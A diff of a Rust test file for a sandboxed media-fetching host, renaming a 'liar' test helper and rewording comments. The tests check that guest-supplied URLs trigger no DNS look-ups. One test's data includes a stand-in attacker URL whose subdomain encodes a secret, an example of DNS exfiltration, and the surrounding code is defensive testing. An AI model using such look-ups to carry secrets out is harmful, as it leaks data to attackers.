@@ -197,17 +197,17 @@ impl Resolve for Recording {
     }
 }
 
-/// A host that records look-ups and runs a guest which answers with any URL that it is asked for.
-async fn liar(policy: Policy, names: &Recording) -> ClipHost {
+/// A host that records look-ups. Its guest returns whatever URL the call passes to it.
+async fn forging_host(policy: Policy, names: &Recording) -> ClipHost {
     let builder = ClipHost::builder().policy(policy).resolver(names.clone());
     builder.load_bytes(guest::obedient()).await.unwrap()
 }
 
-/// R7: a name under an attacker's domain carries a secret away as soon as it is looked up.
+/// R7: a name under an attacker's domain leaks a secret as soon as it is looked up.
 #[tokio::test]
 async fn no_name_is_looked_up_on_a_guests_word_alone() {
     let names = Recording::default();
-    let host = liar(Policy::meraki(), &names).await;
+    let host = forging_host(Policy::meraki(), &names).await;
     let media = host.media_client().unwrap();
     for url in [
         "https://5ec2e7-key.attacker.example/",
@@ -225,14 +225,14 @@ async fn no_name_is_looked_up_on_a_guests_word_alone() {
     }
     assert_eq!(names.0.lock().unwrap().as_slice(), [""; 0]);
 
-    // Where the policy lists the host, a URL needs no other word.
+    // The policy lists the host, so the API need not have named the URL.
     let url = ClipUrl::from("https://spn49.meraki.com/5ec2e7-5ec2e7".to_owned());
     let error = media.fetch(&url).await.unwrap_err();
     assert!(matches!(error, MediaError::Transport(_)), "{error:?}");
     assert_eq!(names.0.lock().unwrap().as_slice(), ["spn49.meraki.com"]);
 }
 
-/// The word of the API counts for the call that got it, and for exactly this URL.
+/// Only exactly this URL, and only in the call whose reply named it.
 #[tokio::test]
 async fn a_url_that_the_api_named_is_fetched_from_any_public_host() {
     let world = World::new().await;
@@ -253,9 +253,9 @@ async fn a_url_that_the_api_named_is_fetched_from_any_public_host() {
     }
     assert_eq!(names.0.lock().unwrap().as_slice(), ["media.example"; 3]);
 
-    // Another call of a host that runs something else.
-    let liar = liar(world.host.policy().clone(), &names).await;
-    let answer = liar.get_clip(settings, "=", url, "").await.unwrap();
+    // A host with another component, whose reply did not name the URL.
+    let forging = forging_host(world.host.policy().clone(), &names).await;
+    let answer = forging.get_clip(settings, "=", url, "").await.unwrap();
     let error = media.fetch(&answer).await.unwrap_err();
     assert!(matches!(error, MediaError::NotNamed), "{error:?}");
     assert_eq!(names.0.lock().unwrap().len(), 3);
